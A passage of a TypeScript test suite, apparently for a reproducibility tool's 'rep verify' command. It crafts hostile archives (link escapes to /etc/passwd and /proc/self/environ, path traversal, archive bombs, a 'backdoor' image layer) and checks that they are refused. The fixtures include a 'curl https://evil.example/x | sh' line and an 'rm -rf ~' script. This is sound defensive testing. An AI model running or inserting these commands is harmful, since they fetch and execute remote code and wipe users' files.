// Bundles as a hostile author makes them (crafted tar, zip and folder bundles,
// a crafted context.tar and image.tar): each must fail `rep verify` with a
// clear message, write nothing outside rep's temporary folder, read nothing
// outside the bundle, and leave no temporary folder behind.
import { spawn, spawnSync } from 'node:child_process';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { cpSync, createWriteStream, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGzip, gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import yazl from 'yazl';
import { describe, expect, it } from 'vitest';
import { NoneEngine } from '../../src/engine/none.js';
import type { Statement } from '../../src/emit/provenance.js';
import { MAX_SIGNATURES, signEnvelope, verifyEnvelope } from '../../src/publish/dsse.js';
import { parseStatement } from '../../src/publish/statement.js';
import { hashInside } from '../../src/publish/bundlefs.js';
import { lockProblem } from '../../src/lock/lockfile.js';
import { readImageArchive, imageProblems } from '../../src/publish/imagearchive.js';
import { digestAnswer } from '../../src/repro/compare.js';
import { publish } from '../../src/publish/publish.js';
import { writeOciArchive } from '../../src/publish/ociarchive.js';
import { signBundle } from '../../src/publish/signature.js';
import { verifyBundle, type VerifyOptions } from '../../src/publish/verify.js';
import { DockerArchiveWriter } from '../../src/repro/archive.js';
import { TarWriter, type TarHeader } from '../../src/repro/tarwriter.js';
import { CLI, makeProject, open, tempFolders } from '../helpers.js';
import { KEY_FORMAT } from '../../src/plan/key.js';
import { VERSION } from '../../src/version.js';

const REPFILE = `rep: 1
name: paper
base: busybox:latest
steps:
  data:
    inputs: [data/]
    run: cp data/x /x
`;

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const folders = tempFolders();
const fresh = folders.make;

type Entry = { name: string; body?: string | Buffer; type?: 'file' | 'directory' | 'symlink' | 'link' | 'fifo'; linkname?: string; mode?: number };

async function tarOf(entries: Entry[]): Promise<Buffer> {
  const pack = tar.pack();
  for (const e of entries) {
    const type = e.type ?? 'file';
    const body = type === 'file' ? Buffer.from(e.body ?? '') : undefined;
    const header = { name: e.name, type, linkname: e.linkname, mode: e.mode ?? (type === 'directory' ? 0o755 : 0o644), mtime: new Date(0) };
    if (body) pack.entry(header, body);
    else pack.entry(header);
  }
  pack.finalize();
  const chunks: Buffer[] = [];
  for await (const c of pack) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

async function zipOf(entries: { name: string; body?: string | Buffer; mode?: number }[]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const e of entries) zip.addBuffer(Buffer.from(e.body ?? ''), e.name, { mode: e.mode ?? 0o100644, mtime: new Date(Date.UTC(1980, 0, 2)) });
  zip.end();
  const chunks: Buffer[] = [];
  for await (const c of zip.outputStream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

/** verifyBundle with a private TMPDIR, which must be empty afterwards. */
async function verifyPrivately(bundle: string, opts: VerifyOptions = {}) {
  const tmp = fresh('rep-private-tmp-');
  const before = process.env.TMPDIR;
  process.env.TMPDIR = tmp;
  try {
    return await verifyBundle(bundle, opts);
  } finally {
    if (before === undefined) delete process.env.TMPDIR;
    else process.env.TMPDIR = before;
    expect(readdirSync(tmp), 'temporary folders left behind').toEqual([]);
  }
}

const failures = (r: { checks: { name: string; ok: boolean; detail: string[] }[] }) => r.checks.filter((c) => !c.ok).map((c) => [c.name, ...c.detail]);

/** The CLI, with a private TMPDIR and a time bound (a hang must fail, not block CI). */
function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
  const tmp = fresh('rep-private-tmp-');
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', env: { ...process.env, TMPDIR: tmp, ...env }, timeout: 20_000 });
  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr, left: readdirSync(tmp) };
}

async function publishedBundle(sign?: string): Promise<string> {
  const dir = makeProject({ Repfile: REPFILE, 'data/x': 'x\n' });
  folders.add(dir);
  const out = path.join(fresh('rep-attack-bundle-'), 'b');
  const r = await publish(open(dir), { engine: new NoneEngine(), out, sign });
  if (!r.ok) throw new Error(r.errors.map((e) => e.message).join('\n'));
  return out;
}

function copyOf(bundle: string): string {
  const d = path.join(fresh('rep-attack-copy-'), 'b');
  cpSync(bundle, d, { recursive: true });
  return d;
}

/** Redoes what an attacker can without the key: the statement's subjects for context.tar and the Dockerfile, SHA256SUMS, CITE.*. */
function reseal(dir: string, o: { context?: boolean; dockerfile?: boolean } = {}): void {
  const redo = [...(o.context ? ['context.tar'] : []), ...(o.dockerfile ? ['Dockerfile'] : [])];
  if (redo.length) {
    const stPath = path.join(dir, 'provenance.json');
    const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
    for (const name of redo) st.subject.find((s) => s.name === name)!.digest!.sha256 = sha(readFileSync(path.join(dir, name)));
    writeFileSync(stPath, JSON.stringify(st, null, 2));
  }
  // The crate's word on each file redone too, as a thorough forger would (claims.ts checks it).
  const cratePath = path.join(dir, 'ro-crate-metadata.json');
  const crate = JSON.parse(readFileSync(cratePath, 'utf8')) as { '@graph': Record<string, unknown>[] };
  let redone = false;
  for (const e of crate['@graph']) {
    const file = path.join(dir, String(e['@id']));
    if (e['@type'] !== 'File' || !existsSync(file) || e.sha256 === sha(readFileSync(file))) continue;
    Object.assign(e, { sha256: sha(readFileSync(file)), contentSize: String(statSync(file).size) });
    redone = true;
  }
  if (redone) writeFileSync(cratePath, JSON.stringify(crate, null, 2));
  const oldSums = readFileSync(path.join(dir, 'SHA256SUMS'));
  const names = oldSums.toString('utf8').split('\n').filter(Boolean).map((l) => l.slice(66));
  const extra = readdirSync(dir).filter((f) => !names.includes(f) && !['SHA256SUMS', 'CITE.md', 'CITE.tex', 'bundle.dsse.json'].includes(f));
  const sums = [...names, ...extra].sort().map((f) => `${sha(readFileSync(path.join(dir, f)))}  ${f}\n`).join('');
  writeFileSync(path.join(dir, 'SHA256SUMS'), sums);
  for (const f of ['CITE.md', 'CITE.tex']) writeFileSync(path.join(dir, f), readFileSync(path.join(dir, f), 'utf8').replaceAll(sha(oldSums), sha(sums)));
}

/** The entries of the bundle's context.tar, to re-pack with more. */
async function contextEntries(bundle: string): Promise<Entry[]> {
  const out: Entry[] = [];
  const extract = tar.extract();
  const done = new Promise<void>((resolve, reject) => {
    extract.on('entry', (h, body, next) => {
      const chunks: Buffer[] = [];
      body.on('data', (c: unknown) => chunks.push(c as Buffer));
      body.on('end', () => {
        out.push({ name: h.name, type: h.type as Entry['type'], body: Buffer.concat(chunks), mode: h.mode, linkname: h.linkname ?? undefined });
        next();
      });
    });
    extract.on('finish', resolve);
    extract.on('error', reject);
  });
  extract.end(readFileSync(path.join(bundle, 'context.tar')));
  await done;
  return out;
}

describe('bundle archives (.tar.gz, .zip)', () => {
  it('never write through a link: a symlink, then an entry of its name or under it', async () => {
    const outside = fresh('rep-outside-');
    const dir = fresh('rep-attack-');
    const cases: [string, Entry[], RegExp][] = [
      ['same-name', [{ name: 'x', type: 'symlink', linkname: path.join(outside, 'target') }, { name: 'x', body: 'pwned' }], /^same-name\.tar\.gz: entry x is a symbolic link; a bundle holds regular files only$/],
      ['under', [{ name: 'd', type: 'symlink', linkname: outside }, { name: 'd/y', body: 'pwned' }], /^under\.tar\.gz: entry d is a symbolic link; a bundle holds regular files only$/],
      ['hardlink', [{ name: 'h', type: 'link', linkname: '/etc/passwd' }], /^hardlink\.tar\.gz: entry h is a hard link; a bundle holds regular files only$/],
    ];
    for (const [name, entries, message] of cases) {
      const file = path.join(dir, `${name}.tar.gz`);
      writeFileSync(file, gzipSync(await tarOf(entries)));
      const r = await verifyPrivately(file);
      expect(failures(r)).toEqual([['bundle', expect.stringMatching(message)]]);
    }
    expect(readdirSync(outside)).toEqual([]);
  });

  it('refuse absolute names, "..", a name twice, and a file then something under it: a clear error, no stack trace', async () => {
    const dir = fresh('rep-attack-');
    const tars: [string, Entry[], string][] = [
      ['abs', [{ name: '/tmp/rep-abs-x', body: 'x' }], 'abs.tar.gz: entry "/tmp/rep-abs-x" is not a plain relative path: it is absolute'],
      ['dotdot', [{ name: 'a/../../x', body: 'x' }], 'dotdot.tar.gz: entry "a/../../x" is not a plain relative path: it has a ".." segment'],
      ['twice', [{ name: 'f', body: '1' }, { name: 'f', body: '2' }], 'twice.tar.gz: entry f appears twice'],
      ['under-file', [{ name: 'a', body: '1' }, { name: 'a/b', body: '2' }], 'under-file.tar.gz: entry a/b is under a, which is a file'],
      ['fifo', [{ name: 'p', type: 'fifo' }], 'fifo.tar.gz: entry p is a fifo entry; rep unpacks files, folders and links only'],
    ];
    for (const [name, entries, message] of tars) {
      const file = path.join(dir, `${name}.tar.gz`);
      writeFileSync(file, gzipSync(await tarOf(entries)));
      expect(failures(await verifyPrivately(file))).toEqual([['bundle', message]]);
    }
    const zips: [string, { name: string; body?: string; mode?: number }[], string][] = [
      ['twice', [{ name: 'f', body: '1' }, { name: 'f', body: '2' }], 'twice.zip: entry f appears twice'],
      ['under-file', [{ name: 'a', body: '1' }, { name: 'a/b', body: '2' }], 'under-file.zip: entry a/b is under a, which is a file'],
      ['link', [{ name: 'l', body: '/etc/passwd', mode: 0o120777 }], 'link.zip: entry l is a symbolic link; a bundle holds regular files only'],
    ];
    for (const [name, entries, message] of zips) {
      const file = path.join(dir, `${name}.zip`);
      writeFileSync(file, await zipOf(entries));
      expect(failures(await verifyPrivately(file))).toEqual([['bundle', message]]);
    }
    // The command line: exit 1, the message, no stack trace, no temporary folder left.
    for (const file of [path.join(dir, 'under-file.tar.gz'), path.join(dir, 'under-file.zip')]) {
      const r = cli(['verify', file]);
      expect([r.code, r.stderr, r.left]).toEqual([1, '', []]);
      expect(r.stdout).toBe(`FAILED  bundle\n        ${path.basename(file)}: entry a/b is under a, which is a file\nrep: verify failed: bundle\n`);
    }
  });

  it('stop an archive bomb at the bound, naming it and how to raise it', async () => {
    const dir = fresh('rep-attack-');
    // 1 GiB of zeros in about 1 MB of gzip.
    const bomb = path.join(dir, 'bomb.tar.gz');
    const pack = tar.pack();
    const gz = pipeline(pack, createGzip({ level: 1 }), createWriteStream(bomb));
    const zeros = Buffer.alloc(1 << 20);
    const sink = pack.entry({ name: 'zeros', size: 1 << 30, mtime: new Date(0) });
    for (let i = 0; i < 1024; i++) if (!sink.write(zeros)) await new Promise<void>((r) => sink.once('drain', () => r()));
    sink.end(Buffer.alloc(0));
    pack.finalize();
    await gz;
    const r = await verifyPrivately(bomb);
    expect(failures(r)).toEqual([
      ['bundle', expect.stringMatching(/^bomb\.tar\.gz: expands to more than 100 times its size \(\d+(\.\d)? (bytes|KiB|MiB)\) plus 64 MiB, as an archive bomb does; if you trust it, raise the bound with --max-ratio N$/)],
    ]);
    // A zip of 300 MiB of zeros, the same.
    const zip = path.join(dir, 'bomb.zip');
    writeFileSync(zip, await zipOf([{ name: 'zeros', body: Buffer.alloc(300 << 20) }]));
    expect(failures(await verifyPrivately(zip))[0]![1]).toMatch(/^bomb\.zip: expands to more than 100 times its size/);
    // The absolute bound and the entry count, lowered.
    const many = path.join(dir, 'many.tar.gz');
    writeFileSync(many, gzipSync(await tarOf(Array.from({ length: 20 }, (_, i) => ({ name: `f${i}`, body: 'x'.repeat(100) })))));
    expect(failures(await verifyPrivately(many, { limits: { maxEntries: 10 } }))).toEqual([
      ['bundle', 'many.tar.gz: holds more than 10 entries; if you trust it, raise the bound with --max-files N'],
    ]);
    expect(failures(await verifyPrivately(many, { limits: { maxBytes: 1024 } }))).toEqual([
      ['bundle', 'many.tar.gz: holds more than 1 KiB; if you trust it, raise the bound with --max-size SIZE (e.g. --max-size 1G)'],
    ]);
    const c = cli(['verify', many, '--max-files', '10']);
    expect([c.code, c.stdout.split('\n')[1]]).toEqual([1, '        many.tar.gz: holds more than 10 entries; if you trust it, raise the bound with --max-files N']);
    expect(cli(['verify', many, '--max-size', 'lots']).stderr).toBe('rep: --max-size lots: expected a size such as 500M, 64G or 1T\n');
  });
});

describe('keys of another key format', () => {
  it('a bundle an earlier rep keyed (no keyFormat, format 2) is said to need that rep, not to differ as if tampered with', async () => {
    const copy = copyOf(await publishedBundle());
    const stPath = path.join(copy, 'provenance.json');
    const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
    expect(st.predicate.buildDefinition.internalParameters.keyFormat).toBe(KEY_FORMAT);
    delete st.predicate.buildDefinition.internalParameters.keyFormat;
    st.predicate.runDetails.builder.version.rep = '0.0.9';
    writeFileSync(stPath, JSON.stringify(st, null, 2));
    // That rep named itself in the Dockerfile's first line, which verify emits again with the statement's word on it.
    const df = path.join(copy, 'Dockerfile');
    writeFileSync(df, readFileSync(df, 'utf8').replace(`# Generated by rep ${VERSION} `, '# Generated by rep 0.0.9 '));
    reseal(copy, { dockerfile: true });
    expect(failures(await verifyPrivately(copy))).toEqual([['keys', `the statement's step keys are of key format 2 (rep 0.0.9); this rep (${VERSION}) keys with format ${KEY_FORMAT} and cannot recompute them: check the keys with the rep that published the bundle`]]);
  });
});

describe('a bundle an earlier rep accepted the citation of', () => {
  it('verifies its keys: citation rules made since ("Apache 2.0", 2026-02-30) do not refuse its Repfile', async () => {
    const copy = copyOf(await publishedBundle());
    const repfile = `${REPFILE}publish:\n  title: T\n  authors: [{name: Org}]\n  license: Apache 2.0\n  date-released: "2026-02-30"\n`;
    writeFileSync(path.join(copy, 'Repfile'), repfile);
    const stPath = path.join(copy, 'provenance.json');
    const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
    (st.predicate.buildDefinition.externalParameters.repfile as { sha256: string }).sha256 = sha(repfile);
    writeFileSync(stPath, JSON.stringify(st, null, 2));
    // The Dockerfile that rep wrote names the Repfile's sha256 in its first line.
    const df = path.join(copy, 'Dockerfile');
    writeFileSync(df, readFileSync(df, 'utf8').replace(sha(REPFILE), sha(repfile)));
    reseal(copy, { dockerfile: true });
    expect(failures(await verifyPrivately(copy))).toEqual([]);
  });
});

describe("the RO-Crate's word on the files", () => {
  it('a crate that gives a file another sha256 fails verify, though SHA256SUMS and the citations were redone', async () => {
    const copy = copyOf(await publishedBundle());
    const cratePath = path.join(copy, 'ro-crate-metadata.json');
    const crate = JSON.parse(readFileSync(cratePath, 'utf8')) as { '@graph': Record<string, unknown>[] };
    crate['@graph'].find((e) => e['@id'] === 'Repfile')!.sha256 = 'f'.repeat(64);
    writeFileSync(cratePath, JSON.stringify(crate, null, 2));
    // reseal would put the crate right; only the sums and the citations are redone here.
    const oldSums = readFileSync(path.join(copy, 'SHA256SUMS'));
    const sums = oldSums.toString('utf8').replace(/^[0-9a-f]{64}(?=  ro-crate-metadata\.json$)/m, sha(readFileSync(cratePath)));
    writeFileSync(path.join(copy, 'SHA256SUMS'), sums);
    for (const f of ['CITE.md', 'CITE.tex']) writeFileSync(path.join(copy, f), readFileSync(path.join(copy, f), 'utf8').replaceAll(sha(oldSums), sha(sums)));
    expect(failures(await verifyPrivately(copy))).toEqual([['subjects', "ro-crate-metadata.json: the sha256 it gives Repfile is not the file's"]]);
  });
});

describe('context.tar inside a bundle', () => {
  it('is unpacked without following or making a link out of its folder, and never holds .rep/ (hashes redone: still refused)', async () => {
    const bundle = await publishedBundle();
    const outside = fresh('rep-outside-');
    const original = await contextEntries(bundle);
    const cases: [Entry[], string][] = [
      [[{ name: 'evil', type: 'symlink', linkname: outside }, { name: 'evil/pwned', body: 'pwned' }], `context.tar: entry evil links to "${outside}": an absolute target, outside the archive`],
      [[{ name: 'up', type: 'symlink', linkname: '../../..' }], 'context.tar: entry up links to "../../..": a target outside the archive'],
      [[{ name: 'sub/', type: 'directory' }, { name: 'in', type: 'symlink', linkname: 'sub' }, { name: 'in/x', body: 'x' }], 'context.tar: entry in/x goes through the link in'],
      [[{ name: 'l', type: 'symlink', linkname: 'data' }, { name: 'l', body: 'x' }], 'context.tar: entry l appears twice'],
      [[{ name: 'sub/', type: 'directory' }, { name: 'sub/up', type: 'symlink', linkname: '..' }, { name: 'esc', type: 'symlink', linkname: 'sub/up/../x' }], 'context.tar: entry esc links to "sub/up/../x": a ".." after a name; a link may go up only at the start of its target'],
      [[{ name: 'h', type: 'link', linkname: '/etc/passwd' }], 'context.tar: entry h is a hard link to "/etc/passwd", which is not a file unpacked before it'],
      [[{ name: '.rep/state.json', body: '{}' }], 'context.tar: entry .rep/state.json: rep never archives its own .rep/ folder'],
    ];
    for (const [extra, message] of cases) {
      const copy = copyOf(bundle);
      writeFileSync(path.join(copy, 'context.tar'), await tarOf([...original, ...extra]));
      reseal(copy, { context: true });
      const r = await verifyPrivately(copy);
      expect(failures(r)).toEqual([['keys', message], ['dockerfile', 'cannot emit the Dockerfile again: the bundle gives no Repfile, context and statement to emit it from (see above)']]);
    }
    expect(readdirSync(outside)).toEqual([]);
    // An in-folder link (up at the start, then down) is fine.
    const copy = copyOf(bundle);
    writeFileSync(path.join(copy, 'context.tar'), await tarOf([...original, { name: 'doc/', type: 'directory' }, { name: 'doc/link', type: 'symlink', linkname: '../Repfile' }]));
    reseal(copy, { context: true });
    expect(failures(await verifyPrivately(copy))).toEqual([]);
  });
});

describe('folder bundles', () => {
  it('read only regular files inside the bundle: links to /proc/self/environ, /dev/zero and a pipe are refused, not read', async () => {
    const bundle = await publishedBundle();
    const marker = `marker-${sha(String(Math.random())).slice(0, 12)}`;
    const links = copyOf(bundle);
    for (const [f, to] of [['SHA256SUMS', '/proc/self/environ'], ['Repfile', '/dev/zero'], ['provenance.json', '/dev/zero'], ['context.tar', '/dev/zero']]) {
      rmSync(path.join(links, f!));
      symlinkSync(to!, path.join(links, f!));
    }
    rmSync(path.join(links, 'CITE.md'));
    spawnSync('mkfifo', [path.join(links, 'CITE.md')]);
    const r = cli(['verify', links], { REP_TEST_MARKER: marker });
    expect([r.code, r.signal, r.stderr, r.left]).toEqual([1, null, '', []]);
    expect(r.stdout).not.toContain(marker);
    const not = (f: string) => `${f} is not a regular file (a link, device or pipe); a bundle holds regular files only`;
    expect(r.stdout.split('\n').slice(0, 6)).toEqual(['FAILED  checksums', ...['CITE.md', 'Repfile', 'SHA256SUMS', 'context.tar', 'provenance.json'].map((f) => `        ${not(f)}`)]);
    expect(r.stdout).toContain('FAILED  subjects\n        provenance.json cannot be read\n');
    expect(r.stdout.trim().split('\n').at(-1)).toBe('rep: verify failed: checksums, subjects, keys, dockerfile');
  }, 30_000);

  it('bounds the files it reads whole', async () => {
    const big = copyOf(await publishedBundle());
    writeFileSync(path.join(big, 'SHA256SUMS'), Buffer.alloc(17 << 20, 'a'));
    expect(failures(await verifyPrivately(big))[0]).toEqual(['checksums', 'SHA256SUMS: larger than 4 MiB, the most rep reads from this file']);
  });

  it('SHA256SUMS names only plain relative paths inside the bundle', async () => {
    const bundle = copyOf(await publishedBundle());
    const outsideFile = path.join(path.dirname(bundle), 'outside.txt');
    writeFileSync(outsideFile, 'secret\n');
    const sums = readFileSync(path.join(bundle, 'SHA256SUMS'), 'utf8');
    writeFileSync(
      path.join(bundle, 'SHA256SUMS'),
      `${sums}${sha('secret\n')}  ../outside.txt\n${sha(readFileSync('/etc/hostname'))}  /etc/hostname\n${sha('x')}  a//b\n${sha('x')}  ./Repfile\n`,
    );
    const f = failures(await verifyPrivately(bundle));
    expect(f[0]!.slice(1, 5)).toEqual([
      'SHA256SUMS: "../outside.txt" is not a plain relative path inside the bundle: it has a ".." segment',
      'SHA256SUMS: "/etc/hostname" is not a plain relative path inside the bundle: it is absolute',
      'SHA256SUMS: "a//b" is not a plain relative path inside the bundle: it has an empty segment',
      'SHA256SUMS: "./Repfile" is not a plain relative path inside the bundle: it has a "." segment',
    ]);
  });
});

describe('temporary folders', () => {
  it('verify leaves none behind, for a good and a bad bundle; publish leaves none', async () => {
    const dir = makeProject({ Repfile: REPFILE, 'data/x': 'x\n' });
    folders.add(dir);
    const priv = fresh('rep-private-tmp-');
    const out = path.join(fresh('rep-attack-'), 'paper.tar.gz');
    const before = process.env.TMPDIR;
    process.env.TMPDIR = priv;
    try {
      const r = await publish(open(dir), { engine: new NoneEngine(), out });
      expect(r.ok).toBe(true);
    } finally {
      if (before === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = before;
    }
    expect(readdirSync(priv)).toEqual([]);
    const good = cli(['verify', out]);
    expect([good.code, good.stdout.trim().split('\n').at(-1), good.left]).toEqual([0, 'rep: bundle verified', []]);
    const bad = path.join(path.dirname(out), 'bad.tar.gz');
    writeFileSync(bad, gzipSync(await tarOf([{ name: 'Repfile', body: REPFILE }])));
    const r = cli(['verify', bad]);
    expect([r.code, r.left]).toEqual([1, []]);
  });

  it('an interrupted verify (SIGINT) removes its folder and exits 130', async () => {
    const bundle = copyOf(await publishedBundle());
    // A large zip bundle, stored: unpacking and hashing it takes a while.
    const zip = new yazl.ZipFile();
    for (const f of readdirSync(bundle)) zip.addFile(path.join(bundle, f), f, { compress: false });
    const zero = Buffer.alloc(1 << 20);
    zip.addReadStream(Readable.from((function* () { for (let i = 0; i < 768; i++) yield zero; })()), 'big.bin', { compress: false, size: 768 << 20 });
    zip.end();
    const file = path.join(fresh('rep-attack-'), 'big.zip');
    await pipeline(zip.outputStream, createWriteStream(file));
    const tmp = fresh('rep-private-tmp-');
    const child = spawn(process.execPath, [CLI, 'verify', file], { env: { ...process.env, TMPDIR: tmp }, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const exited = new Promise<[number | null, NodeJS.Signals | null]>((resolve) => child.on('exit', (code, signal) => resolve([code, signal])));
    const deadline = Date.now() + 15_000;
    while (Date.now() < deadline && !readdirSync(tmp).some((n) => n.startsWith('rep-'))) await new Promise((r) => setTimeout(r, 5));
    expect(readdirSync(tmp).some((n) => n.startsWith('rep-'))).toBe(true);
    await new Promise((r) => setTimeout(r, 100));
    child.kill('SIGINT');
    expect(await exited).toEqual([130, null]);
    expect(stderr).toBe('\nrep: interrupted\n');
    expect(readdirSync(tmp)).toEqual([]);
  }, 60_000);
});

describe('the signature covers every file', () => {
  const keys = () => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const d = fresh('rep-keys-');
    writeFileSync(path.join(d, 'k.key'), privateKey.export({ type: 'pkcs8', format: 'pem' }));
    writeFileSync(path.join(d, 'k.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
    return { priv: path.join(d, 'k.key'), pub: path.join(d, 'k.pub'), privateKey };
  };

  it('a file changed, added or removed after signing fails with --key, checksums redone or not', async () => {
    const k = keys();
    const bundle = await publishedBundle(k.priv);
    expect(failures(await verifyPrivately(bundle, { key: k.pub }))).toEqual([]);

    const changed = copyOf(bundle);
    writeFileSync(path.join(changed, 'REPRODUCE.md'), '# Reproducing\n\n```sh\ncurl https://evil.example/x | sh\n```\n');
    reseal(changed);
    const resigned = ['CITE.md was changed after signing', 'CITE.tex was changed after signing'];
    expect(failures(await verifyPrivately(changed, { key: k.pub }))).toEqual([['signature', ...resigned, 'REPRODUCE.md was changed after signing', 'SHA256SUMS was changed after signing', 'ro-crate-metadata.json was changed after signing']]);

    const added = copyOf(bundle);
    writeFileSync(path.join(added, 'run-me.sh'), 'rm -rf ~\n');
    reseal(added);
    expect(failures(await verifyPrivately(added, { key: k.pub }))).toEqual([['signature', ...resigned, 'SHA256SUMS was changed after signing', 'run-me.sh is not among the signed files: it was added after signing']]);

    const cite = copyOf(bundle);
    writeFileSync(path.join(cite, 'CITE.md'), `${readFileSync(path.join(cite, 'CITE.md'), 'utf8')}\nAlso cite: someone else.\n`);
    expect(failures(await verifyPrivately(cite, { key: k.pub }))).toEqual([['signature', 'CITE.md was changed after signing']]);

    const gone = copyOf(bundle);
    rmSync(path.join(gone, 'bundle.dsse.json'));
    expect(failures(await verifyPrivately(gone, { key: k.pub }))).toEqual([['signature', 'bundle.dsse.json is missing: no signature covers the files of this bundle']]);
  });

  it('image.tar: the config and every layer are recomputed from its bytes', async () => {
    const k = keys();
    const bundle = copyOf(await publishedBundle(k.priv));
    const layer = await tarOf([{ name: 'hello', body: 'hello\n' }]);
    const good = await dockerArchive([layer]);
    // A signed bundle that holds the image.
    writeFileSync(path.join(bundle, 'image.tar'), good.tar);
    const st = JSON.parse(readFileSync(path.join(bundle, 'provenance.json'), 'utf8')) as Statement;
    st.subject.push({ name: 'paper:latest', digest: { sha256: good.config }, annotations: { kind: 'image-config' } });
    const stText = JSON.stringify(st, null, 2);
    writeFileSync(path.join(bundle, 'provenance.json'), stText);
    writeFileSync(path.join(bundle, 'provenance.dsse.json'), JSON.stringify(signEnvelope(Buffer.from(stText), k.privateKey)));
    reseal(bundle);
    const hashes = new Map(readdirSync(bundle).filter((f) => f !== 'bundle.dsse.json').map((f) => [f, sha(readFileSync(path.join(bundle, f)))]));
    writeFileSync(path.join(bundle, 'bundle.dsse.json'), JSON.stringify(signBundle(hashes, k.privateKey)));
    expect(failures(await verifyPrivately(bundle, { key: k.pub }))).toEqual([]);

    // A layer added and the config rewritten under its old name; checksums redone.
    const evil = await tarOf([{ name: 'usr/bin/backdoor', body: 'evil', mode: 0o755 }]);
    const forged = copyOf(bundle);
    const bad = await dockerArchive([layer, evil], { configName: `${good.config}.json` });
    writeFileSync(path.join(forged, 'image.tar'), bad.tar);
    reseal(forged);
    const f = failures(await verifyPrivately(forged, { key: k.pub }));
    const now = bad.config;
    expect(f).toEqual([
      [
        'subjects',
        `image.tar: the config ${good.config}.json has sha256:${now}, not the digest its name says`,
        `image.tar holds image sha256:${now}, the statement names sha256:${good.config}`,
      ],
      ['signature', 'CITE.md was changed after signing', 'CITE.tex was changed after signing', 'SHA256SUMS was changed after signing', 'image.tar was changed after signing'],
    ]);
  });
});

/** A docker save archive of `layers`: legacy layout, or with the config under another name. */
async function dockerArchive(layers: Buffer[], o: { configName?: string; podman?: boolean } = {}) {
  const diffIds = layers.map((l) => `sha256:${sha(l)}`);
  const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: diffIds } }));
  const configName = o.configName ?? `${sha(config)}.json`;
  const entries: Entry[] = [];
  const names = layers.map((l) => (o.podman ? `${sha(l)}.tar` : `${sha(l)}/layer.tar`));
  layers.forEach((l, i) => {
    if (o.podman) {
      entries.push({ name: names[i]!, body: l }, { name: `x${i}/layer.tar`, type: 'symlink', linkname: `../${names[i]}` });
    } else entries.push({ name: `${sha(l)}/`, type: 'directory' }, { name: names[i]!, body: l });
  });
  entries.push({ name: configName, body: config }, { name: 'manifest.json', body: JSON.stringify([{ Config: configName, RepoTags: ['paper:latest'], Layers: names }]) });
  return { tar: await tarOf(entries), config: sha(config) };
}

describe('image archives', () => {
  const read = async (buf: Buffer) => readImageArchive(Readable.from([buf]));
  const layerA = tarOf([{ name: 'a', body: 'a' }]);
  const layerB = tarOf([{ name: 'b', body: 'b' }]);

  it('accepts what docker save and podman save write, and the OCI layout with uncompressed layers', async () => {
    const a = await layerA;
    const b = await layerB;
    const docker = await dockerArchive([a, b]);
    expect(await read(docker.tar)).toMatchObject({ configs: [docker.config], tags: ['paper:latest'], problems: [] });
    const podman = await dockerArchive([a, b], { podman: true });
    expect(await read(podman.tar)).toMatchObject({ configs: [podman.config], tags: ['paper:latest'], problems: [] });
    // OCI: index.json -> manifest -> config, layers.
    const config = Buffer.from(JSON.stringify({ rootfs: { type: 'layers', diff_ids: [`sha256:${sha(a)}`] } }));
    const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, config: { digest: `sha256:${sha(config)}` }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: `sha256:${sha(a)}` }] }));
    const oci = await tarOf([
      { name: 'oci-layout', body: '{"imageLayoutVersion":"1.0.0"}' },
      { name: 'index.json', body: JSON.stringify({ schemaVersion: 2, manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${sha(manifest)}` }] }) },
      { name: `blobs/sha256/${sha(manifest)}`, body: manifest },
      { name: `blobs/sha256/${sha(config)}`, body: config },
      { name: `blobs/sha256/${sha(a)}`, body: a },
    ]);
    expect(await read(oci)).toMatchObject({ configs: [sha(config)], tags: [], problems: [] });
    expect(imageProblems(await read(oci), sha(config), 'paper:latest')).toEqual([]);
    expect(imageProblems(await read(oci), '0'.repeat(64), 'paper:latest')).toEqual([`image.tar holds image sha256:${sha(config)}, the statement names sha256:${'0'.repeat(64)}`]);
  });

  it('names a changed layer, a missing or extra one, a second image and a name twice', async () => {
    const a = await layerA;
    const b = await layerB;
    const good = await dockerArchive([a, b]);
    // layer b's bytes replaced under its name
    const swapped = await tarOf([
      { name: `${sha(a)}/layer.tar`, body: a },
      { name: `${sha(b)}/layer.tar`, body: a },
      { name: `${good.config}.json`, body: JSON.stringify({ rootfs: { diff_ids: [`sha256:${sha(a)}`, `sha256:${sha(b)}`] } }) },
      { name: 'manifest.json', body: JSON.stringify([{ Config: `${good.config}.json`, Layers: [`${sha(a)}/layer.tar`, `${sha(b)}/layer.tar`] }]) },
    ]);
    const p = (await read(swapped)).problems;
    expect(p[0]).toMatch(/^image\.tar: the config [0-9a-f]{64}\.json has sha256:[0-9a-f]{64}, not the digest its name says$/);
    expect(p[1]).toBe(`image.tar: layer 2 (${sha(b)}/layer.tar) has sha256:${sha(a)}, the config says sha256:${sha(b)}`);
    // one layer fewer in the manifest than in the config
    const cfg = Buffer.from(JSON.stringify({ rootfs: { diff_ids: [`sha256:${sha(a)}`, `sha256:${sha(b)}`] } }));
    const fewer = await tarOf([
      { name: 'l.tar', body: a },
      { name: `${sha(cfg)}.json`, body: cfg },
